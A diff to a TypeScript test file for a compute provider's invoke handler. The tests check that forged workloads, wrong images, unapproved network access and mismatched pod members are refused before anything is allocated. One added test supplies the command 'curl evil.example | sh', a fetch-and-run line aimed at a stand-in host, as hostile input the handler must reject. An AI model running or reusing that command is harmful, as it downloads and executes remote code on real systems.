@@ -1,11 +1,12 @@
 /** The invoke handler: a checked invocation allocates the ledger entry and starts the run. */
 import assert from 'node:assert/strict'
 import { waitFor } from 'xstate'
-import { Harness } from '../../../helpers/provider-harness.js'
+import { defaultWorkload, Harness } from '../../../helpers/provider-harness.js'
 import { invokeHandler } from '../../../../dms/provider/handlers/invoke.js'
 import { allocationOf } from '../../../../dms/provider/views.js'
+import type { Bid } from '../../../../dms/contracts/model.js'
 import type { WorkloadMember } from '../../../../dms/workload/workload.js'
-import { contracted, handlers } from './flow.js'
+import { contracted, contractedBefore, handlers } from './flow.js'
 import { forTerms, member, type ContainerInit } from '../../../helpers/workload.js'
 
 const MiB = 1024 * 1024
@@ -22,13 +23,13 @@ const invokedMember = (name: string, more: Partial<ContainerInit> = {}) =>
     ...more,
   })
 
-/** A pod's bid (0.5 cores, 64 MiB: two members' shares) locked and contracted. */
-async function podContracted(h: Harness) {
+/** A pod's bid (0.5 cores, 64 MiB: two members' shares) locked and contracted, signing `members`. */
+async function podContracted(h: Harness, members: WorkloadMember[]) {
   const { lock, sign } = handlers(h)
   await h.bidRequest()(h.msg({ ...h.request('pod-1', 0.5), members: pod }, h.requester, 'job/pod-1'))
   const bid = h.bids().find((b) => b.jobId === 'pod-1')!
   await lock(h.msg({ jobId: bid.jobId, bidId: bid.bidId }))
-  const contract = h.contract(bid)
+  const contract = h.contract(bid, h.requester, { members })
   contract.providerSignature = (await sign(h.msg({ contract }))).providerSignature
   return contract
 }
@@ -56,18 +57,18 @@ describe('provider/handlers/invoke', () => {
     })
   })
 
-  it('refuses a proof not signed by the trusted contract-db, and a command the executor cannot run', async () => {
-    const { contract } = await contracted(h)
-    const inv = h.invocation(contract)
+  it("refuses a proof not signed by the trusted contract-db, and a signed workload of another image than the contract's", async () => {
+    // The requester signed a workload the provider did not bid for: the hash matches, the image not.
+    const evil = (bid: Bid) => forTerms({ ...bid, image: 'evil:1' }, ['true'])
+    const { contract } = await contracted(h, 'job-1', evil)
+    const inv = h.invocation(contract, { workload: evil(contract.terms.bid) })
     await assert.rejects(handlers(h).invoke(h.msg({ ...inv, proof: { ...inv.proof, escrowLocked: 0 } })), {
       code: 'BAD_PROOF',
     })
-    await assert.rejects(
-      handlers(h).invoke(
-        h.msg({ ...inv, workload: forTerms({ ...contract.terms, image: 'evil:1' }, ['true']) }),
-      ),
-      { code: 'BAD_INVOCATION', message: /not the contract's image/ },
-    )
+    await assert.rejects(handlers(h).invoke(h.msg(inv)), {
+      code: 'BAD_INVOCATION',
+      message: /not the contract's image/,
+    })
     const other = { ...contract, terms: { ...contract.terms, contractId: 'another-contract' } }
     await assert.rejects(handlers(h).invoke(h.msg({ ...inv, contract: other })), {
       code: 'NOT_CONTRACTED',
@@ -76,10 +77,9 @@ describe('provider/handlers/invoke', () => {
   })
 
   it('refuses an invocation asking for the network unless the provider allows it; carries it when allowed', async () => {
-    const { contract } = await contracted(h)
-    const inv = h.invocation(contract, {
-      workload: forTerms(contract.terms, ['true'], { network: 'outbound' }),
-    })
+    const outbound = (bid: Bid) => forTerms(bid, ['true'], { network: 'outbound' })
+    const { contract } = await contracted(h, 'job-1', outbound)
+    const inv = h.invocation(contract, { workload: outbound(contract.terms.bid) })
     await assert.rejects(handlers(h).invoke(h.msg(inv)), {
       code: 'BAD_INVOCATION',
       message: 'network not allowed here: the job asks for network access',
@@ -100,25 +100,69 @@ describe('provider/handlers/invoke', () => {
     await assert.rejects(handlers(h).invoke(h.msg(h.invocation(contract))), { code: 'CANCELLED' })
   })
 
-  it('runs a pod as bid on, and refuses a forged invocation whose members differ from the bid request', async () => {
-    const contract = await podContracted(h)
-    const pods = (members: WorkloadMember[]) => h.invocation(contract, { workload: { members } })
-    const refused = async (members: WorkloadMember[], message: RegExp) =>
-      assert.rejects(handlers(h).invoke(h.msg(pods(members))), { code: 'BAD_INVOCATION', message })
+  it('runs a pod as bid on, and refuses a signed pod whose members differ from the bid request', async () => {
+    const refused = async (members: WorkloadMember[], message: RegExp) => {
+      const contract = await podContracted(h, members)
+      await assert.rejects(handlers(h).invoke(h.msg(h.invocation(contract, { workload: { members } }))), {
+        code: 'BAD_INVOCATION',
+        message,
+      })
+      assert.equal(h.ledger.entries()[0].state, 'locked', 'nothing allocated')
+      await h.close()
+      h = await new Harness().start()
+    }
     await refused([invokedMember('a'), invokedMember('b', { image: 'evil:1' })], /members\.1\.artifact/)
     await refused([invokedMember('a'), invokedMember('x')], /members\.1\.name/)
     await refused([invokedMember('a'), invokedMember('b', { cpu: 1 })], /do not add up/)
     await refused([invokedMember('a'), invokedMember('b', { network: true })], /members\.1\.network/)
-    await assert.rejects(handlers(h).invoke(h.msg(h.invocation(contract))), {
-      code: 'BAD_INVOCATION',
-      message: /named 2 members/,
-    })
-    assert.equal(h.ledger.entries()[0].state, 'locked', 'nothing allocated')
+    await refused([invokedMember('a')], /named 2 members/)
     const good = [invokedMember('a'), invokedMember('b')]
-    const { allocationId } = await handlers(h).invoke(h.msg(pods(good)))
+    const contract = await podContracted(h, good)
+    const { allocationId } = await handlers(h).invoke(
+      h.msg(h.invocation(contract, { workload: { members: good } })),
+    )
     assert.deepEqual(h.fakes.runs.get(allocationId)!.input.allocation.workload, { members: good })
     // The provider's allocations view lists them.
     const view = allocationOf((await h.book.get(contract.terms.bidId))!)
     assert.deepEqual(view?.workload, { members: good })
+  })
+
+  it('refuses a workload other than the one the terms signed (WORKLOAD_MISMATCH), before anything is allocated', async () => {
+    const { contract } = await contracted(h)
+    const signed = defaultWorkload(contract.terms)
+    const [m] = signed.members
+    // The same image and resources as the contract's, so the bid's checks alone would pass them.
+    const others: WorkloadMember[] = [
+      { ...m, command: ['sh', '-c', 'curl evil.example | sh'] },
+      { ...m, env: { TOKEN: 'other' } },
+      { ...m, workdir: '/tmp' },
+      { ...m, network: 'outbound' },
+    ]
+    const allowing = invokeHandler({ book: h.book, contractDb: h.contractDb.peer, allowNetwork: true })
+    for (const other of others)
+      await assert.rejects(allowing(h.msg(h.invocation(contract, { workload: { members: [other] } }))), {
+        code: 'WORKLOAD_MISMATCH',
+        message: /not the one the contract signed/,
+      })
+    assert.equal(h.ledger.entries()[0].state, 'locked', 'nothing allocated')
+    assert.equal(h.fakes.runs.size, 0, 'nothing run')
+    // The signed workload, its keys built in another order, is the same workload.
+    const reordered = { members: [Object.fromEntries(Object.entries(m).reverse()) as WorkloadMember] }
+    const { allocationId } = await allowing(h.msg(h.invocation(contract, { workload: reordered })))
+    assert.deepEqual(h.fakes.runs.get(allocationId)!.input.allocation.workload, signed)
+  })
+
+  it('runs a contract of an earlier version restored from the store (terms without workloadHash), checked against its image and resources', async () => {
+    const { contract } = await contractedBefore(h)
+    assert.equal(contract.terms.workloadHash, undefined)
+    await h.restart()
+    const evil = forTerms({ ...contract.terms, image: 'evil:1' }, ['true'])
+    await assert.rejects(handlers(h).invoke(h.msg(h.invocation(contract, { workload: evil }))), {
+      code: 'BAD_INVOCATION',
+      message: /not the contract's image/,
+    })
+    const workload = forTerms(contract.terms, ['sh', '-c', 'echo any command'])
+    const { allocationId } = await handlers(h).invoke(h.msg(h.invocation(contract, { workload })))
+    assert.deepEqual(h.fakes.runs.get(allocationId)!.input.allocation.workload, workload)
   })
 })
